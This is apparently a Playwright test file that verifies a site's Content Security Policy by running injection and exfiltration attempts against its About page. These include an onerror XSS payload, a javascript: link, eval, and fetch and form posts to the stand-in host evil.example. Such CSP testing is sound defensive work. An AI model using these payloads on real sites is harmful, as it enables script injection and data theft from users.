import type { Browser } from '@playwright/test';
import { expect, test, untilHydrated } from '../support/site-test';

/** Exposed to the page by `start`. */
declare function ran(name: string): void;

/** Runs in the page: adds an element, as injected code would. */
function add(tag: string, properties: object, attributes: Record<string, string> = {}): HTMLElement {
  const element = Object.assign(document.createElement(tag), properties);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  return document.body.appendChild(element);
}

/**
 * Ways to get code into a page or data out of it. Each runs in a timer of the page, because the policy does not apply to what
 * Playwright evaluates itself. An attack has worked when it calls `ran(name)`, or when its request for `address` is sent.
 */
const attacks: Record<string, (name: string, address: string) => unknown> = {
  'inline script': (name) => add('script', { textContent: `ran('${name}')` }),
  'handler attribute': (name) => add('button', {}, { onclick: `ran('${name}')` }).click(),
  'innerHTML with a handler': (name) => add('div', { innerHTML: `<img src="data:," onerror="ran('${name}')">` }),
  eval: (name) => eval(`ran('${name}')`),
  'script of another site': (name, address) => add('script', { src: address }),
  'script of our site that no build made': (name) => add('script', { src: `/planted.js?${encodeURIComponent(name)}` }),
  'link that is a script': (name) => add('a', { href: `javascript:ran('${name}')` }).click(),
  'style element': (name) => {
    add('style', { textContent: 'h1 { outline: 7px solid }' });
    if (getComputedStyle(document.querySelector('h1') ?? document.body).outlineWidth === '7px') ran(name);
  },
  'fetch to another site': (name, address) => fetch(address, { mode: 'no-cors' }).catch(() => {}),
  'form to another site': (name, address) =>
    (add('form', { action: address, method: 'post', target: '_blank' }) as HTMLFormElement).submit(),
  'base of another site': (name) => {
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.prepend(base);
    if (document.baseURI === base.href) ran(name);
    base.remove();
  },
};

test('injected code runs without the policy, but not with it', { tag: '@desktop' }, async ({ browser }) => {
  test.slow();
  const begun = Date.now();
  const withoutPolicy = await start(browser, { bypassCSP: true });
  await expect.poll(() => [...withoutPolicy].toSorted()).toEqual(Object.keys(attacks).toSorted());
  const longEnough = Date.now() - begun;
  const withPolicy = await start(browser, { bypassCSP: false });
  await new Promise((resolve) => setTimeout(resolve, longEnough));
  expect([...withPolicy]).toEqual([]);
});

/** Starts all attacks on a page. Returns a set that fills with the names of those that work. */
async function start(browser: Browser, options: { bypassCSP: boolean }): Promise<ReadonlySet<string>> {
  const worked = new Set<string>();
  const page = await browser.newPage(options);
  await page.exposeFunction('ran', (name: string) => void worked.add(name));
  await page.context().route(/evil\.example\/\?|\/planted\.js\?/, (route) => {
    const name = decodeURIComponent(new URL(route.request().url()).search.slice(1));
    if (route.request().resourceType() !== 'script') worked.add(name);
    return route.fulfill({ contentType: 'text/javascript', body: `ran(${JSON.stringify(name)})` });
  });
  await page.goto('/about');
  // React renders the page anew because of the planted HTML, and would take away a frame that was added before and still loads.
  await untilHydrated(page);
  for (const [name, run] of Object.entries(attacks)) {
    const given = JSON.stringify([name, `https://evil.example/?${encodeURIComponent(name)}`]);
    await page.evaluate(`setTimeout(${String(run)}, 0, ...${given}); ${String(add)}`);
  }
  return worked;
}
